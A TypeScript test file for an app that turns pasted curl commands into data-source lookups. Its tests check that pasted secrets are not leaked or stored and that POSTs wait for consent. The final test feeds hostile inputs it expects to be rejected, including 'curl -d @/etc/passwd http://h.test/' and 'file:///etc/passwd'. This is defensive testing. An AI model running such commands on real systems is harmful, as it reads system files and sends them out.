import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { reachSchema } from '../../../shared/reach';
import { recipeSchema } from '../../../shared/recipe';
import { openWindowRig } from '../ipc/testing/window-rig';

let rig: Awaited<ReturnType<typeof openWindowRig>>;
const asked: string[] = [];
const bodies: string[] = [];
const questions: string[] = [];
let willing = false;

const feed = createServer((request, response) => {
  asked.push(`${request.method} ${request.url} ${request.headers.authorization ?? ''}`);
  if (request.url === '/body') request.on('data', (data: Buffer) => void bodies.push(String(data)));
  if (request.url === '/held') return;
  response.writeHead(200, { 'content-type': 'application/json' });
  // It repeats what it was asked with, as many servers do.
  response.end(JSON.stringify({ load: 1.5, you: request.headers.authorization ?? '', url: request.url }));
});
let host = '';

beforeAll(async () => {
  rig = await openWindowRig({
    async askToPost({ to, body }) {
      questions.push(`${to} ${body}`);
      return willing;
    },
  });
  await new Promise<void>((resolve) => feed.listen(0, '127.0.0.1', resolve));
  host = `127.0.0.1:${(feed.address() as AddressInfo).port}`;
  await rig.call('window.attach', {});
});

afterEach(() => void asked.splice(0));

afterAll(async () => {
  feed.closeAllConnections();
  feed.close();
  await rig?.close();
});

const draft = (path: string, more: object = {}) => ({
  name: '',
  url: `http://${host}${path}`,
  protocol: 'auto',
  ...more,
});

describe('a look that a window asks for', () => {
  it('goes from a pasted command to a reading with a sample, stores nothing, and repeats no secret', async () => {
    const pasted = `curl 'http://${host}/status?token=in-the-address' -H 'Authorization: Bearer in-a-header'`;
    const understood = await rig.call('sources.understand', { pasted });
    if (!understood.ok) throw new Error(JSON.stringify(understood.error));
    const { draft: read, secrets } = understood.value as {
      readonly draft: object;
      readonly secrets: readonly object[];
    };
    expect(secrets).toHaveLength(2);
    const answer = await rig.call('sources.look', { draft: read, secrets });
    expect(answer).toMatchObject({
      ok: true,
      value: {
        problem: null,
        found: [{ title: 'JSON value', confidence: 'certain', recipe: { values: [{ path: 'load' }] } }],
      },
    });
    expect(asked).toEqual(['GET /status?token=in-the-address Bearer in-a-header']);
    expect(JSON.stringify(answer)).not.toMatch(/in-a-header|in-the-address/);
    expect(rig.settings.current().sources).toEqual([]);
    expect(await rig.call('secrets.state', {})).toMatchObject({ ok: true, value: { stored: [], run: [] } });
    expect(rig.lines.join('\n')).not.toMatch(/in-a-header|in-the-address/);
  });

  it('sends no POST before the person has said so, in a dialog that shows it', async () => {
    const recipe = recipeSchema.parse({ name: 'r', title: 'R', ask: { post: { body: '{"q":1}' } } });
    const unsent = await rig.call('sources.look', { draft: draft('/q', { recipe }), secrets: [] });
    expect(unsent).toMatchObject({ ok: true, value: { found: [] } });
    expect(asked).toEqual([]);
    expect(questions).toEqual([]);
    // The window has said so; it is main that asks the person.
    const look = () => rig.call('sources.look', { draft: draft('/q', { recipe }), secrets: [], post: true });
    expect(await look()).toMatchObject({
      ok: false,
      error: { kind: 'refused', message: expect.stringContaining('nothing was sent') },
    });
    expect(questions).toEqual([`http://${host}/q {"q":1}`]);
    expect(asked).toEqual([]);
    willing = true;
    for (const _again of [1, 2]) expect(await look()).toMatchObject({ ok: true, value: { problem: null } });
    // Agreed to for this run.
    expect(questions).toHaveLength(2);
    expect(asked).toEqual(['POST /q ', 'POST /q ']);
  });

  it('fills the secret of a pasted body in as it leaves, and shows its place in the question', async () => {
    willing = true;
    questions.splice(0);
    const pasted = `curl http://${host}/body --json '{"token":"in-a-body"}'`;
    const understood = await rig.call('sources.understand', { pasted });
    const { draft: read, secrets } = (understood.ok ? understood.value : {}) as Record<string, unknown>;
    const answer = await rig.call('sources.look', { draft: read, secrets, post: true });
    expect(answer).toMatchObject({ ok: true, value: { problem: null } });
    expect(bodies).toEqual(['{"token":"in-a-body"}']);
    expect(questions.join()).toContain('*secret.pasted-');
    expect(JSON.stringify([answer, questions])).not.toContain('in-a-body');
  });

  it('is one at a time for each window: a new one, its end and a new load cut the one before', async () => {
    for (const cut of ['sources.look', 'sources.lookEnd', 'window.attach'] as const) {
      const held = rig.call('sources.look', { draft: draft('/held'), secrets: [] });
      while (asked.length === 0) await new Promise((resolve) => setTimeout(resolve, 5));
      const next = rig.call(cut, cut === 'sources.look' ? { draft: draft('/status'), secrets: [] } : {});
      expect(await held).toMatchObject({ ok: true, value: { found: [] } });
      expect(await next).toMatchObject({ ok: true });
      asked.splice(0);
    }
  });

  it('does not carry a kept secret to an address that nobody agreed to', async () => {
    await rig.call('secrets.set', { name: 'kept', value: 'kept-secret', keep: 'stored' });
    const reach = reachSchema.parse({ credential: { kind: 'bearer', token: 'kept' } });
    const added = await rig.call('sources.add', {
      ...draft('/held', { reach }),
      name: 'A',
      url: 'http://127.0.0.1:1/a',
    });
    expect(added).toMatchObject({ ok: true });
    const answer = await rig.call('sources.look', { draft: draft('/status', { reach }), secrets: [] });
    expect(answer).toMatchObject({ ok: false, error: { kind: 'refused' } });
    expect(asked).toEqual([]);
  });

  it.each([
    ['file:///etc/passwd', 'file of this machine'],
    ['curl -d @/etc/passwd http://h.test/', 'file is not read'],
    ['curl -K /etc/passwd', 'from a file'],
  ])('reads no file because of %s', async (pasted, why) => {
    const answer = await rig.call('sources.understand', { pasted });
    expect(answer).toMatchObject({ ok: false, error: { kind: 'invalid', errors: [{ field: 'pasted' }] } });
    expect(JSON.stringify(answer)).toContain(why);
  });
});
